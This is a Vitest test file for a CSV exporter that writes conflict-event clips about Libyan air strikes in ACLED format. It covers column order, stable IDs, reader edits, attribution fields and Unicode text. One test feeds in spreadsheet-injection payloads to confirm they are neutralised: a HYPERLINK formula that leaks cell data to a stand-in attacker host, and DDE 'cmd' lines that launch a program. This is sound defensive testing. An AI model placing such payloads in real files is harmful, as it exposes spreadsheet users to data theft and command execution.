import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ClipRecord } from '../extraction/types';
import { makeClip } from '../storage/fixtures';
import { toAcledCsv } from './csv';
import { eventOf, mitigaReports } from './test-events';

/** The columns in the order the brief and ACLED's codebook give them, written out so the test can fail. */
const HEADER = [
  'event_id_cnty', 'event_date', 'year', 'time_precision', 'disorder_type', 'event_type', 'sub_event_type',
  'actor1', 'assoc_actor_1', 'inter1', 'actor2', 'assoc_actor_2', 'inter2', 'interaction', 'civilian_targeting',
  'iso', 'region', 'country', 'admin1', 'location', 'latitude', 'longitude', 'geo_precision', 'source',
  'source_url', 'source_scale', 'notes', 'fatalities', 'tags', 'timestamp', 'attribution_status', 'perpetrator',
  'claimed_by', 'alleged_by', 'denied_by', 'airwars_grade', 'source_count', 'clip_ids', 'edited_fields',
];

function parse(csv: string) {
  const result = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result;
}

const edited = (): ClipRecord =>
  makeClip({
    id: 'clip-edited',
    location: { name: 'Tajoura', admin1: 'Tripoli', lat: 32.88167, lon: 13.35056, geoPrecision: 2 },
    actor1: { name: 'Military Forces of Libya (2014-) Libyan National Army', inter: 1 },
    edits: {
      fields: ['location', 'actor1'],
      editedAt: '2024-03-06T12:00:00.000Z',
      original: { location: null, actor1: { name: 'Unidentified Military Forces', inter: 8 } },
    },
    updatedAt: '2024-03-06T12:00:00.000Z',
  });

const unidentified = (): ClipRecord =>
  makeClip({
    id: 'clip-unidentified',
    text: 'Unidentified warplanes bombed a migrant detention centre in Tajoura; the GNA blamed Haftar forces.',
    actor1: { name: 'Unidentified Military Forces', inter: 8 },
    actor2: { name: 'Migrants (Libya)', inter: 7 },
    assocActors2: [
      { name: 'Civilians (Libya)', inter: 7 },
      { name: 'Civilians (Sudan)', inter: 7 },
    ],
    event: {
      disorderType: 'Political violence',
      eventType: 'Explosions/Remote violence',
      subEventType: 'Air/drone strike',
      civilianTargeting: true,
    },
    attribution: {
      perpetrator: 'unidentified',
      statements: [
        {
          stance: 'alleged',
          by: { name: 'Government of National Accord' },
          about: { name: 'Libyan National Army' },
          cue: 'blamed',
        },
        { stance: 'alleged', by: { name: 'UNSMIL' }, about: { name: 'Libyan National Army' }, cue: 'according to' },
      ],
      status: 'alleged',
    },
  });

describe('toAcledCsv', () => {
  it('writes a BOM, the ACLED header in order, CRLF line ends and one row per event', () => {
    const events = [eventOf(mitigaReports()), eventOf([edited()]), eventOf([unidentified()])];
    const csv = toAcledCsv(events);
    expect(csv.startsWith('\uFEFFevent_id_cnty,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Every line break outside quoted notes is CRLF: no bare LF in these rows.
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(csv.split('\r\n')).toHaveLength(events.length + 2);
    const { data, meta } = parse(csv);
    expect(meta.fields?.map((f) => f.replace(/^\uFEFF/, ''))).toEqual(HEADER);
    expect(data).toHaveLength(3);
  });

  it('joins the sources of a multi-source event and takes its lowest non-zero toll and latest change', () => {
    const clips = mitigaReports();
    const [row] = parse(toAcledCsv([eventOf(clips, 'fair')])).data;
    expect(row).toMatchObject({
      event_date: '2019-08-30',
      year: '2019',
      time_precision: '1',
      disorder_type: 'Political violence',
      event_type: 'Explosions/Remote violence',
      sub_event_type: 'Air/drone strike',
      actor1: 'Military Forces of Libya (2014-) Libyan National Army',
      inter1: '1',
      actor2: 'Civilians (Libya)',
      inter2: '7',
      interaction: '17',
      civilian_targeting: '',
      iso: '434',
      region: 'Northern Africa',
      country: 'Libya',
      admin1: 'Tripoli',
      location: 'Mitiga Airport',
      latitude: '32.8941',
      longitude: '13.276',
      geo_precision: '1',
      source: 'Example News; Reuters',
      source_url: `${clips[0]!.article.url}; ${clips[1]!.article.url}`,
      source_scale: '',
      notes: clips[0]!.text,
      fatalities: '3',
      tags: '',
      timestamp: String(Date.UTC(2024, 2, 7, 8, 0, 30) / 1000),
      attribution_status: 'contested',
      perpetrator: 'named',
      claimed_by: '',
      alleged_by: 'Government of National Accord',
      denied_by: 'Libyan National Army',
      airwars_grade: 'fair',
      source_count: '2',
      clip_ids: 'clip-mitiga-a; clip-mitiga-b; clip-mitiga-c',
      edited_fields: '',
    });
    expect(row!.event_id_cnty).toMatch(/^LBY[0-9A-F]+$/);
  });

  it('keeps the event id across edits and re-exports, and tells events apart', () => {
    const clip = makeClip({ id: 'clip-stable' });
    const before = parse(toAcledCsv([eventOf([clip])])).data[0]!.event_id_cnty;
    const after = parse(toAcledCsv([eventOf([{ ...edited(), id: 'clip-stable' }])])).data[0]!.event_id_cnty;
    const grouped = parse(toAcledCsv([eventOf([{ ...clip, eventGroup: 'group-7' }])])).data[0]!;
    expect(after).toBe(before);
    expect(grouped.event_id_cnty).not.toBe(before);
    expect(grouped.tags).toBe('reader grouped');
    const many = Array.from({ length: 500 }, () => eventOf([makeClip()]));
    const ids = parse(toAcledCsv(many)).data.map((r) => r.event_id_cnty);
    expect(new Set(ids).size).toBe(500);
  });

  it('marks a reader-edited lead and lists the fields the reader set', () => {
    const other = makeClip({ id: 'clip-plain' });
    const [row] = parse(toAcledCsv([eventOf([other, edited()])])).data;
    expect(row).toMatchObject({
      location: 'Tajoura',
      latitude: '32.8817',
      longitude: '13.3506',
      geo_precision: '2',
      tags: 'reader edited',
      edited_fields: 'location; actor1',
      clip_ids: 'clip-plain; clip-edited',
      timestamp: String(Date.UTC(2024, 2, 6, 12) / 1000),
    });
  });

  it('writes an unidentified perpetrator, its associates and who alleged what', () => {
    const [row] = parse(toAcledCsv([eventOf([unidentified()])])).data;
    expect(row).toMatchObject({
      actor1: 'Unidentified Military Forces',
      inter1: '8',
      assoc_actor_2: 'Civilians (Libya); Civilians (Sudan)',
      interaction: '78',
      civilian_targeting: 'Civilians targeted',
      perpetrator: 'unidentified',
      attribution_status: 'alleged',
      alleged_by: 'Government of National Accord; UNSMIL',
      denied_by: '',
      airwars_grade: 'weak',
      source_count: '1',
    });
  });

  it('codes a lone actor as its type times ten and leaves an unknown place empty', () => {
    const clip = makeClip({ actor2: undefined, location: undefined, fatalities: { count: 0 } });
    const [row] = parse(toAcledCsv([eventOf([clip])])).data;
    expect(row).toMatchObject({
      actor2: '',
      inter2: '0',
      interaction: '10',
      location: '',
      admin1: '',
      latitude: '',
      longitude: '',
      geo_precision: '',
      fatalities: '0',
    });
  });

  it('round-trips notes with quotes, commas and line breaks, and Arabic and accented text', () => {
    const selection = 'The spokesman said: "We will respond, and soon."\nNo one else, he added, was hurt.';
    const arabic = 'قصفت طائرة مسيّرة مطار معيتيقة في طرابلس، ما أدى إلى مقتل ثلاثة مدنيين';
    const clips = [
      makeClip({ selection }),
      makeClip({
        text: arabic,
        location: { name: 'Miṣrātah', admin1: 'Miṣrātah', lat: 32.3754, lon: 15.0925, geoPrecision: 1 },
        article: { ...makeClip().article, outlet: 'قناة ليبيا الأحرار', url: 'https://libyaalahrar.example/ar/مقال' },
      }),
    ];
    const csv = toAcledCsv(clips.map((c) => eventOf([c])));
    expect(csv).toContain('"The spokesman said: ""We will respond, and soon.""\nNo one else, he added, was hurt."');
    const rows = parse(csv).data;
    expect(rows[0]!.notes).toBe(selection);
    expect(rows[1]).toMatchObject({
      notes: arabic,
      location: 'Miṣrātah',
      source: 'قناة ليبيا الأحرار',
      source_url: 'https://libyaalahrar.example/ar/مقال',
    });
  });

  it('neutralises text cells a spreadsheet would run as formulas, but keeps our negative numbers numeric', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '-2+3',
      '+1 (218) 21 333 4444',
    ];
    const clips = hostile.map((text) => makeClip({ text }));
    clips.push(
      makeClip({
        text: 'A plain note.',
        actor1: { name: '=cmd|"/C calc"!A0', inter: 3 },
        actor2: { name: '\t=1+2', inter: 0 },
        location: { name: 'Nouakchott', lat: -0.5, lon: -15.97856, geoPrecision: 3 },
      }),
    );
    const csv = toAcledCsv(clips.map((c) => eventOf([c])));
    const rows = parse(csv).data;
    expect(rows.map((r) => r.notes).slice(0, hostile.length)).toEqual(hostile.map((t) => `'${t}`));
    const last = rows[hostile.length]!;
    expect(last.actor1).toBe(`'=cmd|"/C calc"!A0`);
    expect(last.actor2).toBe(`'\t=1+2`);
    expect(last.latitude).toBe('-0.5');
    expect(last.longitude).toBe('-15.9786');
    // Nothing in the file starts a cell with a formula character except the numbers we wrote.
    const cells = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.flat();
    const starting = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(starting).toEqual(['-0.5', '-15.9786']);
  });

  it('falls back to the export time when no clip has a readable change time, and writes only a header for none', () => {
    const clip = makeClip({ updatedAt: 'not a date' });
    const now = new Date('2026-11-22T09:30:00Z');
    expect(parse(toAcledCsv([eventOf([clip])], { now })).data[0]!.timestamp).toBe(String(now.getTime() / 1000));
    expect(toAcledCsv([])).toBe(`\uFEFF${HEADER.join(',')}\r\n`);
  });
});
